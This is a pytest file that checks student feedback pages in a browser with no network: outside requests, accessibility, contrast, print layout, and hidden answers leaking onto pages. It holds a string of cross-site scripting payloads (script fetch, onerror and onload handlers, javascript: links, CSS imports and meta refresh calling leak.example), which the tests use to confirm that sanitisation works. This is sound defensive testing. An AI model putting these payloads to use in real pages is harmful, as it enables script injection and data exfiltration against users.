"""Feedback as a student sees it: the demo class's pages, and hostile ones, in a real browser and no network."""

from __future__ import annotations

import shutil
import subprocess
from collections.abc import Iterator
from itertools import pairwise
from pathlib import Path

import nbformat
import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output

from tests.browser import CONTRAST, barriers, print_problems
from tests.conftest import BIN, SHORT, hand_in
from viva.pages.hidden import Hidden, Veil, hidden_of

pytestmark = [pytest.mark.xdist_group("browser"), pytest.mark.slow]

HOSTILE = """<script>fetch('https://leak.example/1'); document.title = 'taken'</script>
<img src="https://leak.example/2.png" alt="far away"><img src=x onerror="document.title = 'taken'">
<svg onload="document.title = 'taken'"><use href="https://leak.example/3.svg#x"/></svg>
<iframe src="https://leak.example/4"></iframe><a href="javascript:document.title = 'taken'">press</a>
<div style="position: fixed; inset: 0; background: url(https://leak.example/5)">cover</div>
<style>@import url(https://leak.example/6); body { display: none }</style>
<link rel="stylesheet" href="https://leak.example/7"><meta http-equiv="refresh" content="0; url=https://leak.example/8">
<base href="https://leak.example/"><form action="https://leak.example/9">
<input autofocus onfocus="document.title = 'taken'">
<h1 id="score">Score: 25 of 25</h1>
$\\href{javascript:document.title='taken'}{x}$ $\\text{<img src=x onerror=document.title='taken'>}$
"""
WIDTHS = {375: 812, 1280: 900}
SHOWN = ["ps1_general_attention", SHORT, "ps5_sentence", "ps8_first_gradient"]
"""They show all that a page can have: a picture, written answers, gradients, a check that is partly right."""


@pytest.fixture(scope="module")
def course(released, tmp_path_factory) -> Path:
    """Some demo students in some assignments and a hostile one, with feedback."""
    root = tmp_path_factory.mktemp("pages") / "course"
    shutil.copytree(released, root)
    path = hand_in(root, "mallory", answer="wrong/no_scaling", why_equivariant_answer=HOSTILE)
    notebook = nbformat.read(path, as_version=4)
    notebook.cells.append(new_markdown_cell(HOSTILE))
    show = "from IPython.display import HTML, SVG, Javascript, Markdown, display\n"
    show += "".join(f"display({function}({HOSTILE!r}))\n" for function in ("HTML", "Markdown", "Javascript"))
    show += "display(HTML('<table><tr>' + '<td>0.123456</td>' * 30 + '</tr></table>'))\n"
    show += f"print({HOSTILE!r}); print('x' * 3000)\nraise ValueError({HOSTILE!r})"
    notebook.cells.append(new_code_cell(show))
    nbformat.write(notebook, path)
    for step in (["demo", *SHOWN, "--students=3"], ["grade"], ["feedback"]):
        subprocess.run([BIN / "viva", *step], cwd=root, check=True, stdout=subprocess.DEVNULL)
    # As if it had come into autograded/ without being cleaned.
    path = root / "autograded" / "mallory" / SHORT / path.name
    notebook = nbformat.read(path, as_version=4)
    mimes = ("text/html", "text/markdown", "text/latex", "image/svg+xml", "application/javascript")
    outputs = [new_output("display_data", data={mime: HOSTILE}) for mime in mimes]
    notebook.cells.append(new_code_cell("raw", outputs=outputs))
    path.chmod(0o644)
    nbformat.write(notebook, path)
    subprocess.run([BIN / "viva", "feedback", "--student=mallory"], cwd=root, check=True, stdout=subprocess.DEVNULL)
    return root


def pages(course: Path) -> Iterator[Path]:
    yield from sorted(course.glob("feedback/*/*/*.html"))


def some_pages(course: Path) -> list[Path]:
    """One page in two, of all students and assignments, and the hostile one."""
    found = {*list(pages(course))[::2], *course.glob("feedback/mallory/*/*.html")}
    assert len(found) > 5 and len({path.parent.name for path in found}) > 3
    return sorted(found)


def look(browser, path: Path, width: int, scheme: str = "light"):
    """The page in a browser, and every request that it made but for itself and its own data."""
    context = browser.new_context(viewport={"width": width, "height": WIDTHS[width]}, color_scheme=scheme)
    page = context.new_page()
    sent = []
    page.on("request", lambda request: sent.append(request.url))
    context.route(lambda url: not url.startswith(("file:", "data:")), lambda route: route.abort())
    page.goto(path.as_uri())
    page.wait_for_load_state()
    return page, [url for url in sent if not url.startswith("data:") and url != path.as_uri()]


@pytest.mark.parametrize("width", WIDTHS)
def test_no_page_sends_a_request_or_runs_over_its_edge_and_headings_are_in_order(course, browser, width):
    for path in pages(course) if width == min(WIDTHS) else some_pages(course):
        page, sent = look(browser, path, width)
        assert sent == [], path
        assert page.evaluate("document.documentElement.scrollWidth <= innerWidth"), path
        levels = page.evaluate("[...document.querySelectorAll('h1,h2,h3,h4,h5,h6')].map(h => +h.tagName[1])")
        assert levels.count(1) == 1 and levels[0] == 1, path
        assert all(after <= before + 1 for before, after in pairwise(levels)), (path, levels)
        page.context.close()


@pytest.mark.parametrize("scheme", ["dark", "light"])
def test_every_text_has_contrast_enough_and_axe_finds_no_barrier(course, browser, scheme):
    for path in some_pages(course):
        page, _ = look(browser, path, 375, scheme)
        page.evaluate("document.querySelectorAll('details').forEach(d => d.open = true)")
        assert page.evaluate(CONTRAST) == [], path
        assert barriers(page) == [], path
        page.context.close()


def test_on_paper_every_page_is_light_unfolded_and_not_cut_off(course, browser):
    for path in some_pages(course):
        page, _ = look(browser, path, 1280, "dark")
        assert print_problems(page) == [], path
        page.context.close()


def test_a_hostile_notebook_runs_nothing_and_stays_in_its_cells(course, browser):
    (path,) = course.glob("feedback/mallory/*/*.html")
    page, sent = look(browser, path, 1280)
    page.wait_for_timeout(200)
    assert sent == []
    assert page.title().startswith("Feedback on")
    assert page.locator("script, iframe, svg, style:not(head style), link, base, form, input").count() == 0
    assert page.locator("#score").count() == 1
    assert page.evaluate("[...document.querySelectorAll('*')].filter(e => e.getAttributeNames().some("
                         "n => n.startsWith('on') || n === 'style')).length") == 0  # fmt: skip
    assert page.locator("a[href^='javascript' i]").count() == 0
    page.context.close()


def test_a_reader_with_a_keyboard_or_without_eyes_finds_the_way(course, browser):
    page, _ = look(browser, next(pages(course)), 375)
    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.className") == "skip"
    page.keyboard.press("Enter")
    assert page.evaluate("document.activeElement.id") == "questions"
    assert page.evaluate("document.documentElement.lang") == "en"
    for landmark in ("main", "header", "footer"):
        assert page.locator(landmark).count() == 1
    assert page.locator("img:not([alt]), img[alt='']").count() == 0
    assert page.locator("table:not(:has(th))").count() == 0
    assert page.locator("th:empty, summary a").count() == 0
    ids = page.evaluate("[...document.querySelectorAll('[id]')].map(e => e.id)")
    assert len(ids) == len(set(ids))
    broken = "[...document.querySelectorAll('a[href^=\"#\"]')].filter(a => !document.getElementById(a.hash.slice(1)))"
    assert page.evaluate(f"{broken}.map(a => a.hash)") == []
    page.context.close()


def sources(path) -> list[str]:
    """What stands in the cells of a file; nothing where it is no notebook, and its page says so."""
    try:
        return [cell.source for cell in nbformat.read(path, 4).cells]
    except nbformat.reader.NotJSONError:
        return []


def test_nothing_hidden_is_on_any_page(course):
    secrets = {path.parent.name: hidden(path) for path in course.glob("source/*/*.ipynb")}
    seen = 0
    for path in pages(course):
        known = secrets[path.parent.name]
        assert len(known.lines) > 50
        handed_in = course / "submitted" / path.relative_to(course / "feedback").with_suffix(".ipynb")
        assert known.found(path.read_text(encoding="utf-8"), sources(handed_in)) == [], path
        seen += 1
    assert seen >= 10


@pytest.mark.thorough  # of a part of the class, with a hostile student, it is proven above
def test_nothing_hidden_is_on_any_page_of_the_whole_demo_class(released, tmp_path):
    course = tmp_path / "course"
    shutil.copytree(released, course)
    for step in (["demo"], ["grade"], ["feedback"]):
        subprocess.run([BIN / "viva", *step], cwd=course, check=True, stdout=subprocess.DEVNULL)
    assert len(list(pages(course))) > 100
    test_nothing_hidden_is_on_any_page(course)


def hidden(path: Path) -> Hidden:
    return hidden_of([nbformat.read(path, as_version=4)], Veil())
